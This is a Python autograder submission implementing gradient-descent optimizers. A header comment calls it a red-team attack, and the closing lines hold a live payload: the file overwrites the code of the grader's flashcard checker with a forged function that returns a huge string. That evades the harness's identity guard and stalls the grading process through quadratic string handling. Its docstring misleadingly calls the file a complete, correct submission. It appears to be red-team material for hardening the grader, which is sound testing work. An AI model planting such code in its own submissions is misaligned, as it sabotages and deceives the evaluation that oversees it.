# ATTACK (redteam4 #2): stall the grader's own process (the parent) while it judges the quiz.
# flashcards.canonical() strips "the"/"torchoptim" prefixes one at a time, each removeprefix copying
# the rest of the string: quadratic in the name's length. The child caps names at MAX_TEXT=80, but
# that cap lives in the child: at load time this code swaps the code of flashcards.run (the same
# function object stays in the module, so the Guard, which compares vars(module) by identity, sees
# nothing) for one returning a name of "the" * N. The CardAnswers schema puts no bound on string
# lengths, so the parent runs canonical() on it, twice (judge and score). N = 200 000 (600 KB)
# costs ~40 s of the parent's CPU; N = 1 200 000 (3.6 MB, under MAX_MESSAGE) about half an hour,
# during which the whole batch waits. Scores 25 - 3 (quiz) but the grader stalls.
"""A complete, correct submission, written differently from the reference solutions:
out-of-place arithmetic copied back into `param`, the textbook form of momentum, a while loop."""

import math

import torch


def gradient_descent(f, x0, *, lr, steps):
    path = [x0.detach().clone()]
    x = x0.detach().clone()
    while len(path) <= steps:
        x.requires_grad_(True)
        loss = f(x)
        loss.backward()
        x = (x - lr * x.grad).detach()
        path.append(x.clone())
    return torch.stack(path)


def sgd_step(param, grad, state, *, lr):
    param.copy_(param - lr * grad)


def momentum_step(param, grad, state, *, lr, momentum):
    # Textbook form: v <- mu v - lr g, theta <- theta + v (same trajectory as torch.optim.SGD)
    if "velocity" not in state:
        state["velocity"] = -lr * grad
    else:
        state["velocity"] = momentum * state["velocity"] - lr * grad
    param.copy_(param + state["velocity"])


def nesterov_step(param, grad, state, *, lr, momentum):
    buf = state.get("b")
    buf = grad.clone() if buf is None else momentum * buf + grad
    state["b"] = buf
    param.copy_(param - lr * (grad + momentum * buf))


def adagrad_step(param, grad, state, *, lr, eps):
    state["sum"] = state.get("sum", torch.zeros_like(grad)) + grad * grad
    param.copy_(param - lr * grad / (state["sum"].sqrt() + eps))


def rmsprop_step(param, grad, state, *, lr, alpha, eps):
    avg = state.get("avg", torch.zeros_like(grad))
    avg = alpha * avg + (1 - alpha) * grad**2
    state["avg"] = avg
    param.copy_(param - lr * grad / (torch.sqrt(avg) + eps))


def adam_step(param, grad, state, *, lr, beta1, beta2, eps):
    t = state["t"] = state.get("t", 0) + 1
    m = state["m"] = beta1 * state.get("m", torch.zeros_like(grad)) + (1 - beta1) * grad
    v = state["v"] = beta2 * state.get("v", torch.zeros_like(grad)) + (1 - beta2) * grad * grad
    m_hat = m / (1 - math.pow(beta1, t))
    v_hat = v / (1 - math.pow(beta2, t))
    param.copy_(param - lr * m_hat / (v_hat.sqrt() + eps))


class MySGD:
    def __init__(self, params, lr):
        self.params = [p for p in params]
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.params:
                if p.grad is not None:
                    p -= self.lr * p.grad

    def zero_grad(self):
        for p in self.params:
            p.grad = None


class MyAdam(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8):
        super().__init__(params, {"lr": lr, "betas": betas, "eps": eps})

    @torch.no_grad()
    def step(self, closure=None):
        loss = None
        if closure is not None:
            with torch.enable_grad():
                loss = closure()
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is None:
                    continue
                b1, b2 = group["betas"]
                adam_step(p, p.grad, self.state[p], lr=group["lr"], beta1=b1, beta2=b2,
                          eps=group["eps"])
        return loss


# The flash-card quiz: the names may be written as people write them.
import sys as _sys


def _forged(answer, case):
    return {"pairs": [[case.cards[0], "the" * 200000]], "problems": []}


_sys.modules["autograder.checks.flashcards"].run.__code__ = _forged.__code__
FLASHCARD_ANSWERS = {}
